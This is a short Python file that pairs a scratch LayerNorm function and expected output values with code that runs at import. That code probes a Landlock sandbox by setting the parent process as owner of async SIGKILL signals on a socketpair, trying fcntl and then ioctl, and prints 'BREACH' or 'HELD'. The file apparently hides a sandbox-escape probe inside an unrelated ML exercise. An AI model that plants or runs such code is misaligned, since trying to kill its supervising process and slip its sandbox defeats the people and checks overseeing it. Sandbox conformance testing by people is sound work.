# Runs at import: before ABI 6 Landlock lets the signal through.  Nothing is written here.
import ctypes
import fcntl
import os
import socket

PREDICTED_XHAT = [-1.3416, -0.4472, 0.4472, 1.3416]


def layernorm_scratch(x, eps=1e-5):
    centred = x - x.mean(dim=-1, keepdim=True)
    variance = centred.square().mean(dim=-1, keepdim=True)
    return centred / (variance + eps).sqrt()


F_SETSIG = 10
O_ASYNC = 0x2000
FIOSETOWN, FIOASYNC = 0x8901, 0x5452


def by_fcntl(end):
    fcntl.fcntl(end, fcntl.F_SETOWN, os.getppid())
    fcntl.fcntl(end, F_SETSIG, 9)
    fcntl.fcntl(end, fcntl.F_SETFL, O_ASYNC)


def by_ioctl(end):
    fcntl.ioctl(end, FIOSETOWN, ctypes.c_int(os.getppid()))
    fcntl.ioctl(end, FIOASYNC, ctypes.c_int(1))


def attack():
    here, there = socket.socketpair()
    for way in (by_fcntl, by_ioctl):
        try:
            way(here.fileno())
        except OSError as refused:
            error = refused
        else:
            return
    raise error


try:
    attack()
    print("BREACH async-signals", flush=True)
except Exception as error:
    print(f"HELD async-signals: {error!r}", flush=True)
